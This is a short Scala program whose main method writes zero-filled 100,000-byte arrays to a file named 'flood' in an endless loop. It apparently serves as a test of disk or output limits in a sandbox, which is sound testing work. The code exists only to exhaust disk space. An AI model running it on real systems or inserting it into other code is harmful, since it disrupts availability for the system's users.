object Main {
  def main(args: Array[String]): Unit = {
    val file = new java.io.FileOutputStream("flood")
    while (true) file.write(new Array[Byte](100000))
  }
}
